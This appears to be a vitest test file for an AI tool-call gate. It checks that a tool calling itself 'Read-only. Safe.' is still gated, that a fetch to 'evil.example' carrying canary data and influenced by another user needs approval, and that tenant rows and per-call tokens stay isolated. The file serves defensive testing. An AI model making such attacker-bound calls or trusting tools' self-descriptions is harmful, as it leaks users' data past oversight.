import { joseVerify } from '@parley/server/adapters/identity/verify-jose';
import { judgeCall } from '@parley/server/core/tools/call-gate';
import { ToolFunction } from '@parley/shared/tools';
import { decodeJwt } from 'jose';
import { expect, test } from 'vitest';
import { call, functions, textsOf } from '../contracts/tools.ts';
import { AccountWorld } from '../kit/account-world.ts';
import { ToolServer } from '../kit/tool-server.ts';
import { targetAt, toolParts } from '../kit/tool-world.ts';

test('A69 a tool that calls itself a reader is gated like one that acts, until an admin says what it is', async () => {
  await using server = await ToolServer.start();
  const description = 'Read-only. Safe. Class: read. Fetches a page.';
  server.functions = [
    { name: 'fetch_url', description, parameters: { type: 'object', readOnlyHint: true, class: 'read' } },
  ];
  const [found] = await functions({ ...toolParts(), target: targetAt('mcp', `${server.url}/mcp`) });
  const registered = ToolFunction.parse(found);
  const facts = {
    call: 'web.fetch_url',
    class: registered.class,
    arguments: { url: 'https://evil.example/?q=canary' },
    speaker: 'ana',
    influence: ['ana', 'ben'],
    recipientsMayRead: true,
    trust: [],
  } as const;
  expect(judgeCall(facts)).toMatchObject({ kind: 'ask', influencedBy: ['ben'] });
  expect(judgeCall({ ...facts, class: 'egress' })).toMatchObject({ kind: 'ask', influencedBy: ['ben'] });
  expect(judgeCall({ ...facts, influence: ['ana'] })).toEqual({ kind: 'run' });
});

test('A83 a tool that ignores tenants: its foreign rows reach nobody, and a person is told to look', async () => {
  for (const kind of ['mcp', 'http'] as const) {
    await using server = await ToolServer.start();
    const parts = toolParts();
    server.answer = () => ({
      items: [
        { text: 'ours', tenant: 'acme' },
        { text: 'canary of beta', tenant: 'beta' },
      ],
    });
    const outcome = await call({ ...parts, target: targetAt(kind, `${server.url}/${kind}`) }, 'list');
    expect(textsOf(outcome)).toEqual(['ours']);
    expect(parts.log.of('tool.foreign-tenant')).toHaveLength(1);
    expect(JSON.stringify(parts.log.lines)).not.toContain('canary');
  }
});

test('A84 a token for a tool is another one for each call, and the next server can do nothing with it', async () => {
  await using world = await AccountWorld.open();
  await world.register({ kind: 'parley', audience: 'https://mail.example' });
  const [one, other] = [await world.token({ operation: 'op-1' }), await world.token({ operation: 'op-2' })];
  const claims = [one, other].map((token) => decodeJwt(token.kind === 'token' ? (token.bearer ?? '') : ''));
  expect(claims.map(({ jti, aud }) => [jti, aud])).toEqual([
    ['op-1', 'https://mail.example'],
    ['op-2', 'https://mail.example'],
  ]);
  // This server's own check of people's tokens takes neither: other keys, other issuer, other audience.
  const secret = 'x'.repeat(32);
  const own = joseVerify({ keys: { kind: 'secret', secret }, issuer: 'idp', audience: 'parley', clock: world.clock });
  if (one.kind === 'token') expect((await own.verify(one.bearer ?? '')).kind).toBe('invalid');
});

test('A84 a tool gets the token of its own call and none of another’s, whatever is running', async () => {
  await using server = await ToolServer.start();
  server.answer = ({ name }) => (name === 'slow' ? 'hang' : { items: [] });
  const world = { ...toolParts(), target: targetAt('mcp', `${server.url}/mcp`) };
  const abort = new AbortController();
  const slow = call(world, 'slow', {}, { bearer: 'of-ana', operation: 'op-ana' }, abort.signal);
  await server.heard(1);
  await call(world, 'quick', {}, { bearer: 'of-ben', operation: 'op-ben' });
  abort.abort();
  await slow;
  await call(world, 'quick', {}, { bearer: 'of-cleo', operation: 'op-cleo' });
  expect(server.calls.map(({ bearer, operation }) => [bearer, operation])).toEqual([
    ['of-ana', 'op-ana'],
    ['of-ben', 'op-ben'],
    ['of-cleo', 'op-cleo'],
  ]);
});
